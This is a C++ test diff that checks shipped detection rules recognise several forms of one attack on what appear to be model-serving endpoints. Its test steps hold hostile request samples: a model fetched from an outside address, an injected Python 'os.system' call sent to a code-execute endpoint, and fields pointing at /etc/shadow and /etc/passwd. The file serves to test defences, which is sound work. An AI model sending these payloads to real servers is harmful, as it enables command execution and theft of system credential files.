@@ -18,6 +18,23 @@ TEST(ShippedRules, EachFiresOnWhatItIsFor) {
   }
 }
 
+TEST(ShippedRules, KnowTheOtherFormsOfOneAttack) {
+  const std::vector<std::pair<const char*, Step>> forms = {
+      {"installed-from-address", post("/models?url=http://203.0.113.9/x.mar", "", 404)},
+      {"code-in-component",
+       post("/api/v1/utils/code/execute", R"x({"code":"__import__('os').system('id')"})x", 401)},
+      {"system-file-in-field",
+       post("/generate", R"({"text":"describe","image_data":"file:///etc/shadow"})")},
+      {"system-file-in-field", post("/form/a", R"({"files":{"f":{"filepath":"/etc/passwd"}}})")},
+  };
+  for (const auto& [rule, step] : forms) {
+    SCOPED_TRACE(rule);
+    Judge judge{shipped_rules()};
+    judge.feed(at(0, step));
+    EXPECT_TRUE(judge.fired.contains(rule));
+  }
+}
+
 /// Somebody else has used the traps' keys with success at a server that refuses strangers: a key
 /// that anyone could have made up is no excuse.
 void accept_keys(Judge& judge, const std::vector<Step>& steps) {
